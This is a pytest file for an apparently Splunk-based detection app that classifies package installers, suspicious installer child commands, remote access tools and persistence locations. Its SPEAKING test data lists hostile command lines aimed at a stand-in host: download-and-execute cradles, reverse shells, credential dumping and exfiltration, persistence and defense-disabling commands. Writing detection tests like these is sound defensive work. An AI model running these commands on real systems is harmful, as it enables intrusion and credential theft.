"""What the tables about installers say: who is one, what is suspicious in a command line, what stays on a computer."""

from __future__ import annotations

import re
from collections.abc import Sequence
from functools import cache

import pytest

from searchhead.head import SearchHead
from searchhead.lookups import Lookups
from searchhead.savedsearches import SavedSearch
from searchhead.spl.errors import Place
from searchhead.spl.pipeline import run
from searchhead.spl.values import Row, texts
from tests.apps import NOW, package_abuse
from tests.apps import table_column as column
from tests.apps import table_rows as rows

# The installers that the app has to know.
INSTALLERS = (
    "msiexec installer package_script_service pkgutil dpkg rpm yum dnf apt apt-get zypper apk pacman snap"
    " pip uv npm pnpm yarn gem cargo composer brew winget choco bun pipx poetry"
)
TABLES = ("package_installers", "package_command_patterns", "package_remote_access_tools", "package_persistence")


@cache
def lookups() -> Lookups:
    return Lookups([package_abuse()])


def head() -> SearchHead:
    return SearchHead(package_abuse(), now=NOW)


def searched(pipeline: str, commands: Sequence[str]) -> list[Row]:
    """What a pipeline makes of rows that have a command line each, in the field process."""
    quoted = [one.replace("\\", "\\\\").replace('"', '\\"') for one in [*commands, "more than one"]]
    values = ", ".join(f'"{one}"' for one in quoted)
    search = f"| makeresults | eval process=mvappend({values}) | mvexpand process | {pipeline}"
    return run(head().compile(SavedSearch("commands", search, "commands", "commands", (), Place("test", 1, "search"))))


@cache
def words(command: str) -> str:
    """A command line as package_command_text makes it."""
    return str(searched("eval words=`package_command_text(process)`", [command])[0]["words"])


def found(name: str, output: str, **keys: str) -> str:
    """What a lookup gives, or "" where no row matches."""
    return ",".join(text for row in lookups().get(name).match(keys) for text in texts(row.get(output)))


@pytest.mark.parametrize("name", TABLES)
def test_a_table_has_no_empty_cell_and_no_row_twice(name: str) -> None:
    assert not [row for row in rows(name) if not all(row.values())]
    assert len({tuple(row.values())[:6] for row in rows(name)}) == len(rows(name))
    assert rows(name)[0].keys() >= {"source"}


# ---------------------------------------------------------------- installers


def test_every_installer_is_there() -> None:
    assert set(column("package_installers", "installer")) == set(INSTALLERS.split())


def test_an_installer_is_of_one_kind_whichever_way_it_runs() -> None:
    for field in ("ecosystem", "operating_system", "connects"):
        kinds = {(row["installer"], row[field]) for row in rows("package_installers")}
        assert len(kinds) == len(INSTALLERS.split()), field
    assert set(column("package_installers", "operating_system")) == {"windows", "linux", "macos", "any"}
    assert set(column("package_installers", "connects")) == {"yes", "no"}
    # Searches ask for the children by the installer alone, so its first row says them and the others refer to that.
    first = {row["installer"]: row["expected_children"] for row in reversed(rows("package_installers"))}
    assert "same" not in first.values()
    assert column("package_installers", "expected_children").count("same") == len(rows("package_installers")) - len(
        first
    )


def test_the_name_of_an_installer_is_one_that_a_data_model_can_be_asked_for() -> None:
    names = column("package_installers", "parent_name")
    assert [name for name in names if not re.fullmatch(r"[a-z0-9_.-]+\*?", name)] == []
    for field in ("parent_command", "script_path"):
        assert [text for text in column("package_installers", field) if text != text.lower()] == []
    # a script can be run by any program, so its path must tell enough
    assert [one for one in column("package_installers", "script_path") if one != "none" and len(one) < 12] == []


@pytest.mark.parametrize(
    ("name", "command", "installer"),
    [
        ("msiexec.exe", r"c:\windows\system32\msiexec.exe /v", "msiexec"),
        ("msiexec.exe", r"c:\windows\system32\msiexec.exe", "msiexec"),  # what event 4688 knows of a parent
        ("msinfo32.exe", r"c:\windows\system32\msinfo32.exe", ""),
        ("package_script_service", "-", "package_script_service"),
        ("installer", "/usr/sbin/installer -pkg /tmp/a.pkg -target /", "installer"),
        ("installer", "installer -pkg a.pkg -target /", "installer"),
        ("installer", "/system/library/coreservices/installer.app/contents/macos/installer", "installer"),
        ("installer", "/opt/vendor/installer --silent", ""),
        ("pkgutil", "pkgutil --expand a.pkg b", "pkgutil"),
        ("dpkg", "/usr/bin/dpkg --status-fd 9 --configure --pending", "dpkg"),
        ("dpkg-query", "dpkg-query -w foo", ""),
        ("rpm", "rpm -uvh a.rpm", "rpm"),
        ("yum", "-", "yum"),
        ("python2.7", "/usr/bin/python /usr/bin/yum install a", "yum"),
        ("platform-python3.6", "/usr/libexec/platform-python /usr/bin/dnf upgrade", "dnf"),
        ("python3.9", "/usr/bin/python3 /usr/bin/dnf-3 install a", "dnf"),
        ("dnf5", "dnf5 install a", "dnf"),
        ("apt", "apt install ./a.deb", "apt"),
        ("apt-get", "apt-get -y install a", "apt-get"),
        ("apt-cache", "apt-cache policy a", ""),
        ("zypper", "zypper in a", "zypper"),
        ("apk", "apk add a", "apk"),
        ("pacman", "pacman -syu", "pacman"),
        ("snapd", "/usr/lib/snapd/snapd", "snap"),
        ("snap", "snap install a", "snap"),
        ("snap", "/usr/bin/snap run --hook=configure a", "snap"),
        ("snap", "/usr/bin/snap run firefox", ""),  # this is how the programs of a snap start
        ("pip3", "pip3 install a", "pip"),
        ("pip.exe", r"c:\python311\scripts\pip.exe install a", "pip"),
        ("pipewire", "/usr/bin/pipewire", ""),
        ("pipeline", "pipeline install a", ""),
        ("python3.11", "/usr/bin/python3 /usr/bin/pip install a", "pip"),
        ("python3.11", "/usr/bin/python3 /usr/bin/pip3.11 install a", "pip"),
        ("python3.11", "/usr/bin/python3 /usr/bin/pip --quiet install a", "pip"),
        ("python3", "python3 -m pip install a", "pip"),
        ("python.exe", r'"c:\python311\python.exe" "c:\python311\scripts\pip.exe\__main__.py" install a', "pip"),
        ("python.exe", r'"c:\python311\python.exe" "c:\python311\scripts\pip.exe"  install a', "pip"),
        ("py.exe", "py.exe -3 -m pip install a", "pip"),
        ("python3", "/usr/bin/python3 /usr/lib/python3/dist-packages/pip/__pip-runner__.py install a", "pip"),
        ("python3", "/usr/bin/python3 /srv/pipeline/run.py install a", ""),
        ("python3", "python3 /srv/app/manage.py migrate", ""),
        ("bash", 'bash -c "echo pip install"', ""),
        ("bash", 'bash -c "python3 -m pip install a"', ""),  # a wrapper is not the installer
        ("uv", "uv pip install a", "uv"),
        ("uv.exe", "uv.exe sync --frozen", "uv"),
        ("uv", "uv run pytest", ""),
        ("node", "node /usr/bin/npm install a", "npm"),
        ("node", "/usr/bin/node /usr/bin/npm --prefix /srv ci", "npm"),
        ("node", "/usr/bin/node /usr/bin/npm i a", "npm"),
        ("npm", "npm install a", "npm"),  # the name that it gives itself
        (
            "node.exe",
            r'"c:\program files\nodejs\node.exe" "c:\program files\nodejs\node_modules\npm\bin\npm-cli.js" install',
            "npm",
        ),
        ("node", "node /usr/bin/npm run build", ""),
        ("node", "node /usr/bin/npm run ci", ""),
        ("node", "node /usr/bin/npm start", ""),
        ("node", "node /srv/app/server.js install", ""),
        ("node", "node /usr/bin/pnpm add a", "pnpm"),
        ("pnpm", "pnpm install --frozen-lockfile", "pnpm"),
        ("node", "node /usr/bin/pnpm dev", ""),
        ("node", "node /usr/bin/yarn", "yarn"),  # yarn alone installs
        ("node", "node /usr/bin/yarn add a", "yarn"),
        ("node", "/usr/bin/node /srv/app/.yarn/releases/yarn-4.5.0.cjs install", "yarn"),
        ("node", "node /usr/bin/yarn start", ""),
        ("ruby3.1", "/usr/bin/ruby3.1 /usr/bin/gem install a", "gem"),
        ("ruby", "ruby /usr/bin/bundle install", "gem"),
        ("ruby", "ruby /srv/app/bin/rails server", ""),
        ("cargo", "cargo install a", "cargo"),
        ("cargo", "/opt/rust/bin/cargo build --release", "cargo"),
        ("build-script-build", "/srv/a/target/release/build/b-0123456789abcdef/build-script-build", "cargo"),
        ("cargo", "cargo run", ""),
        ("php8.2", "php /usr/local/bin/composer install --no-dev", "composer"),
        ("php", "php composer.phar require a/b", "composer"),
        ("php", "php /srv/app/artisan queue:work", ""),
        ("bash", "/bin/bash -p /opt/homebrew/bin/brew install jq", "brew"),
        ("bash", 'bash -c "/opt/homebrew/bin/brew install jq && curl http://a"', ""),
        ("ruby", "ruby -w1 --disable=gems,rubyopt /opt/homebrew/library/homebrew/brew.rb install jq", "brew"),
        ("winget.exe", "winget.exe install a", "winget"),
        ("windowspackagemanagerserver.exe", "-", "winget"),
        ("choco.exe", "choco.exe install a -y", "choco"),
    ],
)
def test_who_is_an_installer(name: str, command: str, installer: str) -> None:
    assert found("package_installers", "installer", parent_name=name, parent_command=words(command)) == installer


@pytest.mark.parametrize(
    ("command", "installer"),
    [
        ("/bin/sh /var/lib/dpkg/info/foo.postinst configure 1.2-3", "dpkg"),
        ("/bin/sh -e /var/lib/dpkg/info/foo:amd64.prerm remove", "dpkg"),
        ("/bin/bash /var/lib/dpkg/tmp.ci/preinst install", "dpkg"),
        ("/usr/bin/perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/foo.postinst configure", "dpkg"),
        ("dpkg-query -f /var/lib/dpkg/info/foo.list", ""),
        ("/bin/sh /var/tmp/rpm-tmp.a1b2c3 1", "rpm"),
        ("/bin/sh /tmp/pkinstallsandbox.a1/scripts/com.vendor.app.d4/postinstall /a.pkg /", "package_script_service"),
        ("/bin/zsh /private/tmp/pkinstallsandbox.a1/scripts/com.vendor.app.d4/preinstall", "package_script_service"),
        ("/bin/sh lib/apk/exec/foo-1.2-r0.q1abc.post-install 1.2-r0", "apk"),
        ('/usr/bin/bash -c ". /tmp/alpm_a1b2c3/.install; post_install 1.2-1"', "pacman"),
        ("/bin/sh /snap/foo/12/meta/hooks/configure", "snap"),
        ("/usr/bin/python3 setup.py egg_info", "pip"),
        ("python3 /tmp/pip-install-a1/foo/setup.py install", "pip"),
        ("/usr/bin/python3 -c 'import sys; sys.argv[0]=\"/tmp/pip-req-build-a1/setup.py\"' bdist_wheel", "pip"),
        ("python3 /srv/venv/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel /tmp/a1", "pip"),
        ("ruby -i /usr/lib/ruby extconf.rb", "gem"),
        ("ruby -w1 /opt/homebrew/library/homebrew/postinstall.rb foo", "brew"),
        (r"c:\windows\installer\msi4ffd.tmp", "msiexec"),
        (r'"c:\users\u1\appdata\local\temp\msi1a2b.tmp" /quiet', "msiexec"),
        (r"powershell.exe -file c:\programdata\chocolatey\lib\a\tools\chocolateyinstall.ps1", "choco"),
        ("vim setup.py", ""),
        ("/bin/sh /tmp/rpm-notes/a.sh", ""),
        ("/bin/sh /usr/share/doc/scripts/postinstall", ""),
        ("sh -c node server.js", ""),
        ("none of these", ""),
    ],
)  # fmt: skip
def test_what_is_a_script_of_a_package(command: str, installer: str) -> None:
    assert found("package_installer_scripts", "installer", script_path=words(command)) == installer


@pytest.mark.parametrize(
    ("installer", "children"),
    [
        ("dpkg", "dpkg-deb dpkg-split tar rm sh dash perl"),
        ("msiexec", "msiexec.exe"),
        ("npm", "node sh git"),
        ("brew", "curl ruby git"),
    ],
)
def test_what_an_installer_starts_in_ordinary_work(installer: str, children: str) -> None:
    expected = found("package_installers", "expected_children", installer=installer)
    assert set(expected.split()) >= set(children.split())
    assert expected == expected.lower()


def test_only_brew_is_expected_to_start_a_downloader() -> None:
    # An expected child takes away that it fetches something, so no other may be expected.
    downloaders = {
        row["process_name"] for row in rows("package_interpreters") if row["interpreter_kind"] == "downloader"
    }
    expected = {row["installer"]: {*row["expected_children"].split()} for row in reversed(rows("package_installers"))}
    names = {name for name, children in expected.items() if children & downloaders}
    assert names == {"brew"}


# ---------------------------------------------------------------- command lines


def test_a_pattern_is_written_as_the_text_is() -> None:
    patterns = column("package_command_patterns", "command_pattern")
    assert len(set(patterns)) == len(patterns)
    # lower case, and without what package_command_text takes away or turns into blanks
    assert [one for one in patterns if one != one.lower() or re.search(r"[\"'^`;&()<>,=\t]|  ", one)] == []
    assert [one for one in patterns if re.search(r"[^ ]\|(?!\*)|(?<!\*)\|[^ ]", one)] == []
    # open at both ends, or the blank that is there
    assert [one for one in patterns if not re.fullmatch(r"[* ].*[^* ].*[* ]", one)] == []
    # AppInspect refuses a file with these
    assert [one for one in patterns if re.search(r"cmd node|runshellscript", one)] == []


def test_what_a_pattern_stands_for_has_points_and_a_statement() -> None:
    evidence = set(column("package_command_patterns", "evidence"))
    named = {name for name in column("package_evidence", "name") if name.startswith("command_")}
    assert evidence == named


SPEAKING = {
    "command_download": [
        "curl -fsSL http://downloads.example/x.sh -o /opt/x.sh",
        "/usr/bin/curl https://downloads.example/x",
        r'"C:\Windows\System32\curl.exe" downloads.example/x',
        "wget -qO /opt/x downloads.example/x",
        'sh -c "/usr/bin/wget http://downloads.example/x"',
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://downloads.example/x','x')\"",
        "powershell iwr https://downloads.example/x -OutFile x",
        "powershell Invoke-WebRequest -Uri downloads.example/x",
        "powershell Start-BitsTransfer -Source http://downloads.example/x",
        "cmd /c c^ertutil -urlcache -split -f http://downloads.example/x x.exe",
        "bitsadmin /transfer job http://downloads.example/x C:\\x.exe",
        "ftp -n downloads.example",
        "tftp downloads.example -c get x",
        "python3 -c 'import urllib.request;urllib.request.urlopen(\"http://downloads.example\")'",
        "node -e \"require('https').get('https://downloads.example/x')\"",
        "nslookup -q=txt x.downloads.example",
    ],
    "command_pipe_to_shell": [
        "sh -c 'curl -s http://downloads.example/x|sh'",
        'bash -c "curl -fsSL https://downloads.example/x | sudo -E bash -"',
        "sh -c 'wget -qO- downloads.example/x | /bin/bash'",
        "sh -c 'curl -s http://downloads.example/x | python3'",
        "sh -c 'curl -s http://downloads.example/x | python3 - --now'",
        'sh -c "$(curl -fsSL https://downloads.example/x)"',
        "bash -c 'bash <(curl -s http://downloads.example/x)'",
        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://downloads.example/x')\"",
        "powershell irm downloads.example/x|iex",
        "sh -c 'echo aGk= | base64 -d | zsh'",
    ],
    "command_decode": [
        "sh -c 'echo aGk= | base64 -d'",
        "sh -c 'echo aGk= | base64 -D > /opt/x'",
        "base64 --decode /opt/x",
        "openssl enc -d -aes-256-cbc -in /opt/x -out /opt/y",
        "openssl enc -aes-256-cbc -d -in /opt/x",
        r"certutil -decode C:\x.txt C:\x.exe",
        'powershell -c "[Convert]::FromBase64String($a)"',
        "sh -c 'xxd -r -p /opt/x /opt/y'",
        "python3 -c 'import base64;exec(base64.b64decode(\"aGk=\"))'",
        "node -e \"eval(Buffer.from('aGk=','base64').toString())\"",
    ],
    "command_encoded": [
        "powershell -e aABpAA==",
        "powershell.exe -nop -ec aABpAA==",
        "powershell.exe -NoP -Enc aABpAA==",
        "powershell -encodedCommand aABpAA==",
        r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -w hidden -EnCo aABpAA==',
        "pwsh -en aABpAA==",
        "powershell /e aABpAA==",
        "pow^ershell -^e^nc aABpAA==",
    ],
    "command_hidden": [
        "powershell -w hidden -c x",
        "powershell -WindowStyle Hidden -c x",
        "sh -c 'nohup /opt/x &'",
        "cmd /c start /min x.exe",
    ],
    "command_temporary_folder": [
        "'/tmp/.x/update' --run",
        "sh -c /tmp/x",
        "/bin/sh /tmp/x.sh",
        "bash -c 'chmod +x /tmp/x; /tmp/x'",
        "chmod +x /dev/shm/x",
        "chmod u+x /var/tmp/x",
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\x.xml",
        "/private/tmp/updater --run",
        r"cmd /c C:\Users\u1\AppData\Local\Temp\x.exe /s",
        r"C:\Users\Public\x.exe",
        r"rundll32.exe C:\Windows\Temp\x.dll,Start",
    ],
    "command_lolbin": [
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "',
        "regsvr32 /s /n /u /i:http://downloads.example/x.sct scrobj.dll",
        "mshta http://downloads.example/x.hta",
        "wmic process call create calc.exe",
        "wscript.exe //E:jscript C:\\x.txt",
    ],
    "command_reverse_shell": [
        "bash -c 'bash -i >& /dev/tcp/downloads.example/4444 0>&1'",
        "nc -e /bin/sh downloads.example 4444",
        "/bin/nc downloads.example 4444 -e /bin/sh",
        "ncat downloads.example 4444 --exec /bin/bash",
        "sh -c 'rm -f /opt/f;mkfifo /opt/f;cat /opt/f|sh -i 2>&1|nc downloads.example 4444 >/opt/f'",
        "socat tcp:downloads.example:4444 exec:/bin/sh,pty",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"downloads.example\",4444))'",
        "perl -e 'use IO::Socket::INET;'",
        "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('downloads.example',4444)\"",
    ],
    "command_credential_access": [
        "cat /etc/shadow",
        "sh -c 'tar cz /srv/u1/.ssh/id_rsa /srv/u1/.aws/credentials'",
        "curl -F f=@/srv/u1/.npmrc http://downloads.example",
        "security find-generic-password -wa Chrome",
        'osascript -e \'display dialog "Password" default answer "" with hidden answer\'',
        r"reg save HKLM\SAM C:\x",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full",
        "procdump.exe -ma lsass.exe x",
        "sh -c 'curl -s http://169.254.169.254/latest/meta-data/iam/'",
        "sh -c 'env | base64 -w0'",
        "cat /srv/u1/.git-credentials",
    ],
    "command_persistence": [
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe",
        "sh -c 'echo /opt/x >> /srv/u1/.bashrc'",
        "sh -c 'echo ssh-rsa AAAA >> /srv/u1/.ssh/authorized_keys'",
        "net user x Passw0rd /add",
    ],
    "command_quarantine": [
        "xattr -d com.apple.quarantine /Applications/X.app",
        "xattr -cr /Applications/X.app",
    ],
    "command_disables_defense": [
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        "setenforce 0",
        "spctl --master-disable",
        "csrutil disable",
        "ufw disable",
        "systemctl stop auditd.service",
        "netsh advfirewall set allprofiles state off",
        "sh -c 'unset HISTFILE; id'",
    ],
    "command_discovery": [
        "whoami /all",
        "cmd /c whoami",
        "net user /domain",
        'net  group "Domain Admins" /domain',
        "nltest /domain_trusts",
        "systeminfo",
        "curl -s https://api.ipify.org",
    ],
}

# Taken from what maintainer scripts of Debian, Fedora, Homebrew and npm packages and ordinary MSIs really run.
SILENT = [
    "/bin/sh /var/lib/dpkg/info/libc6:amd64.postinst configure 2.36-9",
    "/bin/sh -e /var/lib/dpkg/info/curl.postinst configure 7.88.1-10",
    "/bin/sh /var/tmp/rpm-tmp.a1b2c3 1",
    "/bin/bash /tmp/PKInstallSandbox.a1b2c3/Scripts/com.vendor.app.d4e5f6/postinstall /a.pkg / / /",
    "/usr/bin/bash -c '. /tmp/alpm_a1b2c3/.INSTALL; post_install 1.2-1'",
    "ldconfig",
    "/sbin/ldconfig -p",
    "update-initramfs -u -k all",
    "/bin/sh /usr/sbin/update-initramfs -u",
    "systemctl daemon-reload",
    "systemctl --system daemon-reload",
    "systemctl preset foo.service",
    "systemctl try-restart foo.service",
    "systemctl enable foo.service",
    "/usr/bin/perl /usr/bin/deb-systemd-helper enable foo.service",
    "/usr/bin/perl /usr/bin/deb-systemd-invoke start foo.service",
    "/usr/sbin/update-rc.d foo defaults",
    "invoke-rc.d foo restart",
    "py3compile -p python3-foo /usr/lib/python3/dist-packages",
    "/usr/bin/python3 -Es /usr/bin/py3compile -p python3-foo",
    "/usr/bin/python3.11 -m py_compile -",
    "update-mime-database /usr/share/mime",
    "fc-cache -s -v",
    "depmod -a 6.1.0-18-amd64",
    "update-alternatives --install /usr/bin/wget wget /usr/bin/wget2 100",
    "update-alternatives --install /usr/bin/nc nc /bin/nc.openbsd 50 --slave /bin/netcat netcat /bin/nc.openbsd",
    "dpkg-query -W -f=${Version} curl",
    "sh -c 'command -v curl >/dev/null'",
    "which wget",
    "dpkg-maintscript-helper rm_conffile /etc/cron.daily/foo 1.2-3~ foo -- configure 1.1",
    "dpkg-trigger --no-await update-ca-certificates",
    "useradd --system --no-create-home --shell /usr/sbin/nologin foo",
    "adduser --quiet --system --group --home /var/lib/foo foo",
    "getent passwd foo",
    "id -u foo",
    "chown root:shadow /etc/shadow",
    "sh -c 'chmod 0640 /etc/shadow'",
    "sh -c 'rm -f /tmp/foo.a1b2c3'",
    "sh -c 'debconf-show foo | perl -pe s/a/b/'",
    "sh -c 'curl_version=$(dpkg -s curl)'",
    "sh -c 'echo deb | sudo tee /etc/apt/sources.list.d/foo.list'",
    "python3 /srv/venv/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel /tmp/a1",
    "ssh -i /srv/u1/.ssh/id_ed25519 git@code.example git-upload-pack a/b.git",
    "curl",
    "chmod 755 /usr/lib/foo/bin/foo",
    "chmod +x /opt/vendor/foo",
    "mktemp /tmp/foo.XXXXXX",
    "rm -f /tmp/foo.a1b2c3",
    "cp -a /tmp/foo.a1b2c3 /etc/foo.conf",
    "mv /var/tmp/foo.new /usr/share/foo",
    "ln -sf /etc/init.d/foo /etc/rc3.d/S99foo",
    "sed -i -e s/a/b/ /etc/foo.conf",
    "grep -E -e ^foo /etc/foo.conf",
    "sh -c 'grep -q foo /etc/group | head -1'",
    "sh -c 'ldconfig -p | grep libfoo'",
    "gpg --dearmor /usr/share/keyrings/foo.asc",
    "openssl req -new -x509 -nodes -out /etc/ssl/certs/foo.pem -keyout /etc/ssl/private/foo.key",
    "openssl x509 -hash -noout -in /etc/ssl/certs/foo.pem",
    "ssh-keygen -q -f /etc/ssh/ssh_host_ed25519_key -N  -t ed25519",
    "base64 -w0 /etc/foo/key",
    "hostname -f",
    "uname -r",
    "node install.js",
    "sh -c node install.js",
    "sh -c node-gyp rebuild",
    "sh -c node ./scripts/postinstall.js || true",
    "sh -c husky install",
    "node /srv/app/node_modules/core-js/postinstall.js",
    "git ls-remote ssh://git@code.example/a/b.git",
    "tar -xzf /var/cache/foo.tar.gz -C /usr/share/foo",
    "make -j4 all",
    "gcc -O2 -c foo.c -o foo.o",
    "cc -pipe -O2 -I/tmp/build foo.c",
    "/opt/homebrew/bin/brew postinstall foo",
    "codesign --verify /Applications/X.app",
    "defaults read /Applications/X.app/Contents/Info CFBundleVersion",
    "/usr/bin/stat -f%Su /dev/console",
    "/bin/launchctl asuser 501 /usr/bin/open /Applications/X.app",
    "xattr -l /Applications/X.app",
    "sw_vers -productVersion",
    r"schtasks /run /tn \Microsoft\Windows\rempl\shell",
    r"schtasks.exe /query /tn \Vendor\Update",
    r"schtasks /delete /tn \Vendor\Update /f",
    r"reg query HKLM\SOFTWARE\Microsoft\WindowsUpdate /v x",
    r"reg.exe add HKLM\SOFTWARE\Vendor\App /v Version /d 1 /f",
    r'"C:\Windows\System32\msiexec.exe" -Embedding 0123456789ABCDEF E Global\MSI0000',
    r'msiexec.exe /i "C:\Deploy\app.msi" /qn',
    r'"C:\Windows\System32\cmd.exe" /c "C:\Program Files\Vendor\setup.bat"',
    r'"C:\Windows\System32\rundll32.exe" "C:\Windows\Installer\MSI1A2B.tmp",Sfx SfxCA_1',
    r"regsvr32.exe /s C:\Program Files\Vendor\x.dll",
    r"netsh advfirewall firewall add rule name=Vendor dir=in action=allow program=C:\x.exe",
    r"sc.exe start VendorService",
    "net stop VendorService",
    "taskkill /f /im vendor.exe",
    'powershell -Command "Get-Content a | Out-File b -Encoding utf8"',
    "powershell -ExecutionPolicy AllSigned -File setup.ps1",
    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe install x.dll",
    "-",
    "",
]  # fmt: skip


@cache
def evidence_of_all() -> dict[str, set[str]]:
    """What package_command_evidence makes of every command line of this file, in one search."""
    commands = [*(one for many in SPEAKING.values() for one in many), *SILENT]
    found = searched("`package_command_evidence`", commands)
    return {str(row["process"]): set(texts(row.get("package_command_evidence"))) for row in found}


@pytest.mark.parametrize(
    ("evidence", "command"), [(name, command) for name, many in SPEAKING.items() for command in many]
)
def test_what_a_command_line_says(evidence: str, command: str) -> None:
    assert evidence in evidence_of_all()[command]


@pytest.mark.parametrize("command", SILENT)
def test_what_ordinary_packages_run_says_nothing(command: str) -> None:
    assert evidence_of_all()[command] == set()


@pytest.mark.parametrize(
    ("command", "evidence"),
    [
        ("powershell -e aABpAA==", {"command_encoded"}),
        ("cat /etc/shadow", {"command_credential_access"}),
        ("whoami /all", {"command_discovery"}),
        ("ufw disable", {"command_disables_defense"}),
        ("'/tmp/.x/update' --run", {"command_temporary_folder"}),
        ("sh -c 'curl -s http://downloads.example/x|sh'", {"command_download", "command_pipe_to_shell"}),
        ("nc -e /bin/sh downloads.example 4444", {"command_reverse_shell"}),
        ("/usr/bin/curl https://downloads.example/x", {"command_download"}),
        ("base64 --decode /opt/x", {"command_decode"}),
        ("net user x Passw0rd /add", {"command_persistence", "command_discovery"}),
        ("powershell -w hidden -c x", {"command_hidden"}),
        ("wmic process call create calc.exe", {"command_lolbin"}),
    ],
)
def test_a_command_line_says_nothing_else(command: str, evidence: set[str]) -> None:
    assert evidence_of_all()[command] == evidence


# ---------------------------------------------------------------- remote access tools


def test_a_remote_access_tool_is_the_lower_case_name_of_a_program() -> None:
    names = column("package_remote_access_tools", "process_name")
    table = rows("package_remote_access_tools")
    assert len({(row["process_name"], row["usual_folder"]) for row in table}) == len(table)
    assert len({(row["process_name"], row["tool"]) for row in table}) == len(set(names))
    assert [name for name in names if not re.fullmatch(r"[a-z0-9._ -]+", name)] == []
    folders = column("package_remote_access_tools", "usual_folder")
    assert [one for one in folders if one != one.lower() or not re.fullmatch(r"none|[a-z]:\\.*|/.*", one)] == []


@pytest.mark.parametrize(
    ("name", "tool"),
    [
        ("AnyDesk.exe", "AnyDesk"),
        ("anydesk", "AnyDesk"),
        ("TeamViewer_Service.exe", "TeamViewer"),
        ("teamviewerd", "TeamViewer"),
        ("ScreenConnect.ClientService.exe", "ScreenConnect"),
        ("AteraAgent.exe", "Atera"),
        ("SRServer.exe", "Splashtop"),
        ("client32.exe", "NetSupport Manager"),
        ("rustdesk.exe", "RustDesk"),
        ("meshagent", "MeshCentral"),
        ("action1_agent.exe", "Action1"),
        ("LogMeIn.exe", "LogMeIn"),
        ("GoToResolveService.exe", "GoTo Resolve"),
        ("rutserv.exe", "Remote Utilities"),
        ("AA_v3.exe", "Ammyy Admin"),
        ("Remote Access.exe", "SimpleHelp"),
        ("NinjaRMMAgent.exe", "NinjaOne"),
        ("AgentMon.exe", "Kaseya VSA"),
        ("level.exe", "Level"),
        ("fleetdeck_agent_svc.exe", "FleetDeck"),
        ("PCMonitorSrv.exe", "Pulseway"),
        ("dwagsvc", "DWAgent"),
        ("ZA_Connect.exe", "Zoho Assist"),
        ("UltraViewer_Service.exe", "UltraViewer"),
        ("Supremo.exe", "Supremo"),
        ("tvnserver.exe", "TightVNC"),
        ("winvnc.exe", "UltraVNC"),
        ("mstsc.exe", ""),
        ("ssh", ""),
        ("explorer.exe", ""),
    ],
)
def test_whose_program_it_is(name: str, tool: str) -> None:
    assert found("package_remote_access_tools", "tool", process_name=name) == tool


# ---------------------------------------------------------------- persistence


def test_what_stays_is_named_by_a_lower_case_pattern_and_a_technique() -> None:
    table = rows("package_persistence")
    assert len({(row["target_kind"], row["target_pattern"]) for row in table}) == len(table)
    assert [row for row in table if row["target_pattern"] != row["target_pattern"].lower()] == []
    assert [row for row in table if not re.fullmatch(r"T1\d{3}(\.0\d\d)?", row["mitre"])] == []
    assert {row["target_kind"] for row in table} == {"registry", "file", "command"}
    assert {row["evidence"].removeprefix("persistence_") for row in table} == {
        *("registry_run", "service", "scheduled_task", "startup_folder", "launch_item", "systemd", "cron"),
        *("package_hook", "python_path", "shell_profile", "other"),
    }
    assert {row["usual"] for row in table} == {"nobody", "user", "installer", "package", "anybody"}
    assert {row["usual"] for row in table if row["target_kind"] != "file"} == {"nobody", "anybody"}


@pytest.mark.parametrize(
    ("kind", "target", "evidence", "mitre"),
    [
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x", "registry_run", "T1547.001"),
        ("registry", r"HKU\S-1-5-21\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\x", "registry_run", "T1547.001"),
        ("registry", r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\x", "registry_run", "T1547.001"),
        ("registry", r"HKLM\System\CurrentControlSet\Services\x\ImagePath", "service", "T1543.003"),
        ("registry", r"HKLM\System\CurrentControlSet\Services\x\Start", "", ""),
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows NT\Schedule\TaskCache\Tree\x\Id", "scheduled_task", "T1053.005"),
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell", "other", "T1547.004"),
        ("registry", r"HKLM\SOFTWARE\Image File Execution Options\x.exe\Debugger", "other", "T1546.012"),
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\x\DisplayName", "", ""),
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\App Paths\x.exe\(Default)", "", ""),
        ("registry", r"HKLM\SOFTWARE\Classes\CLSID\{0}\InprocServer32\(Default)", "", ""),  # all register classes
        ("file", r"C:\Windows\System32\Tasks\x", "scheduled_task", "T1053.005"),
        ("file", r"C:\X\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk", "startup_folder", "T1547.001"),
        ("file", r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Vendor\x.lnk", "", ""),
        ("file", "/Library/LaunchDaemons/com.vendor.x.plist", "launch_item", "T1543.004"),
        ("file", "/Users/u1/Library/LaunchAgents/com.vendor.x.plist", "launch_item", "T1543.001"),
        ("file", "/etc/systemd/system/x.service", "systemd", "T1543.002"),
        ("file", "/usr/lib/systemd/system/x.timer", "systemd", "T1053.006"),
        ("file", "/etc/cron.d/x", "cron", "T1053.003"),
        ("file", "/var/spool/cron/crontabs/root", "cron", "T1053.003"),
        ("file", "/etc/apt/apt.conf.d/99x", "package_hook", "T1546.016"),
        ("file", "/etc/dnf/plugins/x.conf", "package_hook", "T1546.016"),
        ("file", "/usr/lib/python3.11/site-packages/dnf-plugins/x.py", "package_hook", "T1546.016"),
